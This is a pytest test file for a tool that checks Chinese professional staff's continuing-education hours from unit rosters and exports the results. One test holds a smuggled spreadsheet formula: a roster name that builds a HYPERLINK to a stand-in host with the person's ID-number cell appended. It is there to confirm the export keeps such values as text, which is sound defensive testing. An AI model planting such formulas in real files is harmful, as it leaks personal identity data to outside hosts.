"""The unit check (calculator.unit): golden cases (tests/unit_cases/, data files the browser
runs too), reading units' own files (XLSX, GBK, our own 成绩单 export), the downloads,
the worker ops and `python -m calculator unit`."""

from __future__ import annotations

import base64
import csv
import io
import json
import subprocess
import sys
import tomllib
from pathlib import Path

import openpyxl
import pytest

from calculator import InputError
from calculator.api import handle
from calculator.forms import render
from calculator.forms.idcard import check_char
from calculator.unit import check as check_module
from calculator.unit import export
from calculator.unit.check import check
from calculator.unit.golden import run_case
from calculator.unit.ops import template_op, unit_op

ROOT = Path(__file__).resolve().parent.parent
CASES = Path(__file__).parent / "unit_cases"
FILES = sorted(CASES.rglob("*.toml"))
HENAN, HUNAN = "henan-luoyang-2023", "hunan-2023"


def valid(base17: str) -> str:
    return base17 + check_char(base17)


MAN = valid("41030219850615123")
WOMAN = valid("41030319900101234")


def load(path: Path) -> dict:
    return tomllib.loads(path.read_text(encoding="utf-8"))


# ------------------------------------------------------------------ golden cases


@pytest.mark.parametrize("path", FILES, ids=lambda p: str(p.relative_to(CASES)))
def test_case(path):
    case = load(path)
    assert case.get("description")
    assert run_case(json.loads(json.dumps(case, ensure_ascii=False))) == []


def test_enough_cases():
    cases = [load(p) for p in FILES]
    assert len(cases) >= 8 and sum("error" in c for c in cases) >= 3
    assert {c["input"]["policy"] for c in cases if "expected" in c} == {HENAN, HUNAN}


def test_the_runner_can_fail():
    case = load(CASES / HENAN / "basic.toml")
    case["expected"]["people"]["4"]["missing"] = 4
    case["expected"]["problems"] = [{"line": 9, "reason_contains": "x"}]
    assert run_case(case) == ["people.4.missing: expected 4, got 4.5",
                              "problems: expected 1, got 0: []"]
    assert run_case({"input": case["input"], "error": {"field": "file"}})
    assert run_case({"input": case["input"]}) == ["case must have exactly one of expected, error"]


# ------------------------------------------------------------------ reading files


def roster_text(*rows: str, header: str = "姓名,身份证号,公需科目,专业科目") -> str:
    return "\n".join([header, *rows]) + "\n"


def test_gbk_csv_and_full_width_digits():
    text = roster_text(f"张伟,{MAN},３０,６０", f"王芳,{WOMAN},20,50")
    result = check(HENAN, 2023, text.encode("gb18030"), "csv")
    assert [p["name"] for p in result["people"]] == ["张伟", "王芳"]
    assert result["people"][0]["passed"] and not result["people"][1]["passed"]


def test_xlsx_with_a_title_and_numbers_as_numbers():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["2023年度单位名单"])
    sheet.append(["序号", "姓名", "身份证号码", "公需科目学时", "专业科目学时"])
    sheet.append([1, "张伟", MAN, 30, 60.5])
    sheet.append([2, "王芳", WOMAN, 12.5, None])
    out = io.BytesIO()
    book.save(out)
    result = check(HENAN, 2023, out.getvalue(), "xlsx")
    people = {p["name"]: p for p in result["people"]}
    assert people["张伟"]["earned"] == {"public": 30, "professional": 60.5, "total": 90.5}
    assert people["王芳"]["hours"] == {"public": 12.5, "professional": 0}
    assert result["problems"] == []


def test_our_own_grade_sheet_download_reads_back():
    values = {"rows": [{"name": "张伟", "id_number": MAN, "public": 30, "professional": 60},
                       {"name": "王芳", "id_number": WOMAN, "public": 10, "professional": 60}]}
    for fmt in ("xlsx", "csv"):
        content = render(HENAN, "grade_sheet", values, fmt)
        result = check(HENAN, 2023, content, fmt)
        assert [(p["name"], p["passed"]) for p in result["people"]] == [("张伟", True), ("王芳", False)], fmt


def test_the_result_download_is_no_roster_of_hours():
    # Its 已取得学时 include what a posting deems complete: read back as certified hours they
    # would be wrong, so a roster import does not take them.
    text = export.render(small_result(), "csv")["text"]
    with pytest.raises(InputError, match="没有学时列"):
        check(HENAN, 2023, text, "csv")


def test_a_file_without_the_id_column_or_hours_says_so_once():
    with pytest.raises(InputError) as error:
        check(HENAN, 2023, "姓名,公需科目,专业科目\n张伟,30,60\n", "csv")
    assert error.value.field == "file" and "身份证号" in error.value.problem
    with pytest.raises(InputError, match="在岗"):
        check(HENAN, 2023, roster_text(f"张伟,{MAN},30,60,生育", header="姓名,身份证号,公需科目,专业科目,折算原因"), "csv")


def test_pro_rating_columns_in_a_policy_without_pro_rating_are_not_read():
    text = roster_text(f"张伟,{MAN},30,60,6,生育", header="姓名,身份证号,公需科目,专业科目,在岗月数,折算原因")
    result = check(HUNAN, 2023, text, "csv")
    assert result["people"][0]["prorated"] is None
    assert "在岗月数" not in result["columns"]


def test_five_thousand_rows_is_the_limit():
    with pytest.raises(InputError, match="5000"):
        check(HENAN, 2023, roster_text(*[f"人{i},{MAN},30,60" for i in range(5001)]), "csv")


def test_identical_facts_are_assessed_once():
    calls = []
    real = check_module.assess
    check_module.assess = lambda data, detail=True: calls.append(1) or real(data, detail)
    try:
        ids = [valid(f"1101011980010{d}{n:03d}") for d in range(1, 10) for n in range(10)]
        result = check(HENAN, 2023, roster_text(*(f"人{i},{x},30,60" for i, x in enumerate(ids))), "csv")
    finally:
        check_module.assess = real
    assert len(result["people"]) == 90 and len(calls) == 1


# ------------------------------------------------------------------ downloads


def csv_rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def small_result():
    text = roster_text(f"张伟,{MAN},30,60", f"王芳,{WOMAN},10,20")
    return check(HENAN, 2023, text, "csv")


def test_csv_names_the_notice_and_year_above_the_table():
    rows = csv_rows(export.render(small_result(), "csv")["text"])
    assert rows[0] == ["2023年度专业技术人员继续教育学时核查结果"]
    assert rows[1][0].startswith("依据：洛阳市人力资源和社会保障局《关于做好2023年全市专业技术人员继续教育工作的通知》")
    assert rows[2] == ["核查年度：2023年度"]
    header = rows[5]
    assert header[:4] == ["序号", "名单行号", "姓名", "身份证号"]
    assert "已取得学时（公需科目）" in header and "还需学时" in header
    assert rows[6][3] == f'="{MAN}"' and rows[7][header.index("结论")] == "未达到"


def test_xlsx_is_a4_landscape_with_the_header_repeated_and_numbers_as_numbers():
    data = base64.b64decode(export.render(small_result(), "xlsx", order=[1, 0], scope="按还需学时排序")["base64"])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet.page_setup.orientation == "landscape" and int(sheet.page_setup.paperSize) == int(sheet.PAPERSIZE_A4)
    assert sheet.print_title_rows == "$3:$4"
    header = " ".join(c.value for c in sheet[2] if c.value)
    assert "依据：洛阳市人力资源和社会保障局" in header and "核查年度：2023年度" in header and "按还需学时排序" in header
    assert sheet["C5"].value == "王芳" and sheet["D5"].value == WOMAN and sheet["D5"].data_type == "s"
    assert [sheet.cell(5, c).value for c in (6, 7, 8)] == [10, 20, 30]      # 已取得学时, as numbers


def test_the_order_a_page_sends_is_checked():
    result = small_result()
    for order in ([0, 0], [2], ["0"], [True], "01"):
        with pytest.raises(InputError):
            export.render(result, "csv", order=order)


def test_a_name_that_is_a_formula_stays_text():
    text = roster_text(f'"=HYPERLINK(""http://x.test/?""&D2,""点此"")",{MAN},30,60', f"+王芳,{WOMAN},10,20")
    result = check(HENAN, 2023, text, "csv")
    rows = csv_rows(export.render(result, "csv")["text"])
    names = [r[2] for r in rows[6:8]]
    assert all(not n.startswith(("=", "+", "-", "@")) for n in names), names
    sheet = openpyxl.load_workbook(io.BytesIO(base64.b64decode(export.render(result, "xlsx")["base64"]))).active
    assert sheet["C5"].data_type == "s" and sheet["C5"].value.startswith("=HYPERLINK")


def test_template_downloads_carry_the_policys_columns():
    henan = template_op({"policy": HENAN, "format": "csv"})["text"]
    assert csv_rows(henan)[0] == ["序号", "姓名", "性别", "身份证号", "专业", "单位", "完成学时（公需科目）",
                                  "完成学时（专业科目）", "本年度实际在岗月数", "折算原因", "援派及基层服务月数", "成绩评定"]
    hunan = template_op({"policy": HUNAN, "format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(base64.b64decode(hunan["base64"]))).active
    labels = [c.value for row in (sheet[2], sheet[3]) for c in row if c.value]
    assert "外派月数" in labels and "外派考核合格" in labels and "公需科目学习内容" in labels


# ------------------------------------------------------------------ the roster forms


def test_one_step_fills_the_roster_forms_with_certified_hours_and_the_units_grade():
    text = roster_text(f"张伟,{MAN},30,60,优秀", f"王芳,{WOMAN},10,20,", header="姓名,身份证号,公需科目,专业科目,成绩评定")
    forms = check(HENAN, 2023, text, "csv", forms=True)["forms"]
    assert set(forms) == {"roster", "grade_sheet"}
    grade = forms["grade_sheet"]["rows"]
    assert grade[0] == {"name": "张伟", "sex": "男", "specialty": "", "id_number": MAN, "public": 30,
                        "professional": 60, "grade": "优秀"}
    assert grade[1]["grade"] == ""          # the unit's own assessment: never the annual verdict
    assert render(HENAN, "grade_sheet", forms["grade_sheet"], "csv").count(MAN) == 1


def test_hunans_qualified_list_lists_those_who_pass_for_the_year():
    text = roster_text(f"陈明,{MAN},30,60", f"林芳,{WOMAN},10,20")
    forms = check(HUNAN, 2021, text, "csv", forms=True)["forms"]
    assert list(forms) == ["qualified_list:2021"]
    assert forms["qualified_list:2021"] == {"year": 2021, "rows": [
        {"name": "陈明", "unit": "", "public_content": "", "public_hours": 30, "professional_content": "",
         "professional_hours": 60, "total_hours": 90}]}


# ------------------------------------------------------------------ the worker


def call(op: str, data) -> dict:
    return json.loads(handle(json.dumps({"op": op, "input": data}, ensure_ascii=False)))


def test_worker_ops_answer_and_keep_the_last_check():
    text = roster_text(f"张伟,{MAN},30,60")
    first = call("unit", {"policy": HENAN, "year": 2023, "format": "csv", "text": text})
    assert first["ok"] and "forms" not in first["result"] and first["result"]["totals"]["passed"] == 1
    assert call("unit", {"policy": HENAN, "year": 2023, "format": "csv", "text": text, "forms": True})["result"]["forms"]
    down = call("unit", {"policy": HENAN, "year": 2023, "format": "csv", "text": text, "download": "xlsx"})["result"]
    assert down["filename"] == "洛阳2023年度单位学时核查结果.xlsx" and down["base64"]
    bad = call("unit", {"policy": HENAN, "year": 2023, "format": "csv", "text": text, "download": "pdf"})
    assert bad == {"ok": False, "error": {"field": "download", "problem": "应为 csv 或 xlsx",
                                         "message": "download: 应为 csv 或 xlsx"}}
    assert call("unit", {"policy": HENAN, "year": "2023", "text": text})["error"]["field"] == "year"
    assert call("unit", {"policy": {"a": 1}, "year": 2023, "text": text})["error"]["field"] == "policy"
    assert call("unit", {"policy": HENAN, "year": 2023, "format": ["csv"], "text": text})["error"]["field"] == "format"
    assert call("unit", {"policy": HENAN, "year": 2023, "format": "xlsx", "base64": "不是"})["error"]["field"] == "base64"
    assert call("unit", {"policy": HENAN, "year": 2023, "format": "xlsx",
                         "base64": base64.b64encode(b"PK\x03\x04junk").decode()})["error"]["field"] == "file"


def test_unit_op_keeps_one_check():
    text = roster_text(f"张伟,{MAN},30,60")
    a = unit_op({"policy": HENAN, "year": 2023, "text": text})
    b = unit_op({"policy": HENAN, "year": 2023, "text": text, "forms": True})
    assert a["people"] is b["people"]


# ------------------------------------------------------------------ the command line


def cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "calculator", "unit", *args], cwd=ROOT,
                          capture_output=True, text=True, timeout=120)


def test_cli_reports_the_unit_and_writes_downloads(tmp_path):
    roster = tmp_path / "名单.csv"
    roster.write_text(roster_text(f"张伟,{MAN},30,60", f"王芳,{WOMAN},10,20"), encoding="utf-8")
    done = cli(str(roster), "--policy", HENAN, "--year", "2023")
    assert done.returncode == 0, done.stderr
    assert "共 2 人" in done.stdout and "达到要求 1 人，未达到 1 人" in done.stdout
    assert "第3行 王芳" in done.stdout and "洛阳 一（三）" in done.stdout
    out = tmp_path / "结果.xlsx"
    done = cli(str(roster), "--policy", HENAN, "--out", str(out))
    assert done.returncode == 0 and openpyxl.load_workbook(out).active["C5"].value == "张伟"
    out = tmp_path / "结果.csv"
    assert cli(str(roster), "--policy", HENAN, "--out", str(out)).returncode == 0
    assert out.read_bytes().startswith("\ufeff".encode()) and b"\r\n" in out.read_bytes()
    data = json.loads(cli(str(roster), "--policy", HENAN, "--json").stdout)
    assert data["totals"]["failed"] == 1 and data["people"][1]["failing"]


def test_cli_exits_2_with_every_bad_row_by_line(tmp_path):
    roster = tmp_path / "名单.csv"
    roster.write_text(roster_text(f"张伟,{MAN},30,60", f"王芳,{MAN},10,20", f",{WOMAN},x,20"), encoding="utf-8")
    out = tmp_path / "结果.xlsx"
    done = cli(str(roster), "--policy", HENAN, "--out", str(out))
    assert done.returncode == 2 and done.stdout == "" and not out.exists()
    lines = done.stderr.splitlines()
    assert lines[0].endswith("第3行：身份证号：与第2行的身份证号重复")
    assert "第4行：" in lines[1] and "第4行：" in lines[2]
    assert "Traceback" not in done.stderr


@pytest.mark.parametrize("args,fragment", [
    (["nope.csv", "--policy", HENAN], "找不到" ),
    (["x.txt", "--policy", HENAN], ".csv 或 .xlsx"),
    (["{roster}", "--policy", "nope"], "未知的政策"),
    (["{roster}", "--policy", HENAN, "--year", "2019"], "year"),
    (["{roster}", "--policy", HENAN, "--out", "x.pdf"], ".xlsx 或 .csv"),
])
def test_cli_invalid_input_exits_2(tmp_path, args, fragment):
    roster = tmp_path / "r.csv"
    roster.write_text(roster_text(f"张伟,{MAN},30,60"), encoding="utf-8")
    done = cli(*[a.format(roster=roster) for a in args])
    assert done.returncode == 2 and fragment in done.stderr and "Traceback" not in done.stderr


def xlsx_bytes(rows: list[list], merges: list[str] = ()) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    for ref in merges:
        sheet.merge_cells(ref)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


UNIT_HEADER = ["姓名", "身份证号码", "单位", "公需科目学时", "专业科目学时"]


def test_a_unit_roster_from_excel_says_what_the_spreadsheet_did_by_cell():
    """The unit check reads XLSX as the forms' import does (issue 13): a formula saved
    without its value, and an ID number Excel turned into a number, are named by cell
    instead of being read as 0 hours or a wrong check digit; a value merged down (the
    unit) fills every row it covers."""
    content = xlsx_bytes([UNIT_HEADER,
                          ["张伟", MAN, "洛阳市第一人民医院", 30, 60],
                          ["王芳", WOMAN, None, "=10+20", 60],
                          ["李娟", float(MAN[:17]) * 10, None, 30, 60]], merges=["C2:C4"])
    result = check(HENAN, 2023, content, "xlsx")
    assert [p["name"] for p in result["people"]] == ["张伟"]
    reasons = {p["line"]: p["reason"] for p in result["problems"]}
    assert set(reasons) == {3, 4}
    assert "D3" in reasons[3] and "公式" in reasons[3]
    assert "Excel" in reasons[4] and "文本" in reasons[4]
